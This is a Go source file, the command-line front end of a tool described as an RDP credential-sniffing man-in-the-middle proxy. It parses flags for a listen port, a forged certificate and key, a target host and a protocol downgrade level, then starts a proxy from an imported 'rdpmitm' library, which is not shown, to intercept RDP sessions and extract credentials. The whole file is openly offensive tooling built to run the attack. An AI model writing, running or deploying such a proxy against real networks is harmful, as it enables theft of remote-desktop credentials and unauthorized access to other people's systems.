// Command rdp-mitm-proxy runs a transparent RDP credential-sniffing MITM
// proxy: it listens for an RDP client, downgrades its negotiated security
// protocol, forges the server certificate, and forwards traffic to the
// real server while extracting credentials.
package main

import (
	"errors"
	"flag"
	"fmt"
	"log"
	"net"
	"net/http"
	"os"
	"os/signal"
	"strconv"
	"syscall"

	"github.com/redteamtools/rdpmitm"
)

func main() {
	listenPort := flag.Int("p", 3389, "TCP port to listen on")
	bindIP := flag.String("b", "", "IP address to bind the fake service to (default all)")
	downgrade := flag.Int("g", rdpmitm.DefaultDowngradeTo, "downgrade the authentication protocol to this (one of 0, 1, 3, 11)")
	certFile := flag.String("c", "", "path to the certificate file")
	keyFile := flag.String("k", "", "path to the key file")
	debug := flag.Bool("d", false, "show debug information")
	metricsAddr := flag.String("metrics-addr", "", "address to serve Prometheus metrics on (default disabled)")

	flag.Usage = func() {
		fmt.Fprintf(os.Stderr, "RDP credential sniffer\n\n")
		fmt.Fprintf(os.Stderr, "Usage: %s -c CERTFILE -k KEYFILE [options] TARGET_HOST [TARGET_PORT]\n\n", os.Args[0])
		flag.PrintDefaults()
	}
	flag.Parse()

	if flag.NArg() < 1 {
		flag.Usage()
		os.Exit(2)
	}
	targetHost := flag.Arg(0)
	targetPort := 3389
	if flag.NArg() > 1 {
		p, err := strconv.Atoi(flag.Arg(1))
		if err != nil {
			log.Fatalf("[ERROR] invalid target port %q: %v", flag.Arg(1), err)
		}
		targetPort = p
	}

	cfg := rdpmitm.DefaultProxyConfig()
	cfg.ListenPort = *listenPort
	cfg.BindIP = *bindIP
	cfg.DowngradeTo = rdpmitm.DowngradeProtocol(*downgrade)
	cfg.CertFile = *certFile
	cfg.KeyFile = *keyFile
	cfg.Debug = *debug
	cfg.MetricsAddr = *metricsAddr
	cfg.TargetHost = targetHost
	cfg.TargetPort = targetPort

	proxy, err := rdpmitm.NewProxy(cfg)
	if err != nil {
		log.Fatalf("[ERROR] %v", err)
	}

	addr := net.JoinHostPort(cfg.BindIP, strconv.Itoa(cfg.ListenPort))
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		log.Fatalf("[ERROR] listen on %s: %v", addr, err)
	}

	if cfg.MetricsAddr != "" {
		startMetricsServer(cfg)
	}

	sigCh := make(chan os.Signal, 1)
	signal.Notify(sigCh, os.Interrupt, syscall.SIGTERM)
	go func() {
		<-sigCh
		log.Printf("[INFO] interrupted, shutting down")
		ln.Close()
	}()

	if err := proxy.Run(ln); err != nil {
		if errors.Is(err, rdpmitm.ErrNLAEnforced) {
			os.Exit(1)
		}
		log.Fatalf("[ERROR] %v", err)
	}
}

func startMetricsServer(cfg rdpmitm.ProxyConfig) {
	mux := http.NewServeMux()
	mux.Handle("/metrics", cfg.Metrics.Handler())
	go func() {
		if err := http.ListenAndServe(cfg.MetricsAddr, mux); err != nil {
			log.Printf("[WARN] metrics listener stopped: %v", err)
		}
	}()
}
